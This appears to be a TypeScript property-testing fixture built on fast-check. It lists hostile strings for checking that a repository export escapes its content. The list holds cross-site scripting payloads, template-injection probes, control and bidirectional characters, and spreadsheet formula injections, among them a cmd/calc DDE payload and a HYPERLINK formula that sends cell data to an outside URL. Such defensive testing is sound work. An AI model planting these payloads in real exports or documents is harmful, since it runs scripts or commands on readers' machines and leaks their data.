import fc from 'fast-check'

/** What somebody might write into a repository to do harm to whoever opens an export of it. */
export const hostileTexts: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '</style><script>alert(1)</script>',
  '</td></table><iframe src="https://example.com/">',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '&lt;b&gt; &#60;b&#62; &amp;',
  '<!-- -->',
  ']]><!--',
  '[here](javascript:alert(1))',
  'javascript:alert(1)',
  '${7*7} {{7*7}} #{7*7} `id`',
  '\u202egnp.exe\u202c \u200f\u2066x',
  'nul\u0000bell\u0007escape\u001b[2J',
  'half \ud800 pair',
  'two\r\nlines',
  '=HYPERLINK("https://example.com/?"&A1,"here")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  'a;=1+1;b',
  'a,"=1+1"',
  '"',
  "'",
  'x'.repeat(10_000),
]

export const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary', minLength: 1 }),
  fc
    .array(fc.constantFrom(...hostileTexts.filter(({ length }) => length < 100), ' ', ';', ',', '"'), { maxLength: 5 })
    .map((parts) => parts.join('')),
)
